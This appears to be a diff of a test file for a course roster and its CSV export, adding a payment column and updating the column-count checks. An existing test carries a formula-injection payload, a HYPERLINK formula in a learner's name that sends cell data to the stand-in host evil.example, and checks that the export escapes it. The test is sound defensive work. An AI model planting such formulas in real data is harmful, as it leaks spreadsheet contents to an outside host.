@@ -151,6 +151,7 @@ describe('roster', () => {
       learnerEmail: hacker.email,
       status: 'active',
       enrolledAt: expect.any(String),
+      payment: { status: 'free', label: 'Free', paidInstallments: null, installments: null },
     });
     expect(rows.map((r: { learnerEmail: string; status: string; sessionId: string }) => [r.sessionId, r.learnerEmail, r.status])).toEqual([
       [sessionId, hacker.email, 'active'],
@@ -167,10 +168,10 @@ describe('roster', () => {
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toBe('attachment; filename="ink-wash-basics-roster.csv"');
     const lines = res.body.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"Session start","Name","Email","Status","Enrolled at"');
+    expect(lines[0]).toBe('"Session start","Name","Email","Status","Payment","Enrolled at"');
     expect(lines).toHaveLength(1 + 4);
     // Every field is quoted; embedded quotes are doubled; the comma stays inside its field.
-    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){4}$/);
+    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){5}$/);
     const hackerLine = lines.find((l) => l.includes(hacker.email))!;
     const nameCell = hackerLine.split('","')[1];
     expect(nameCell).toBe(`'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith, Jr.`);
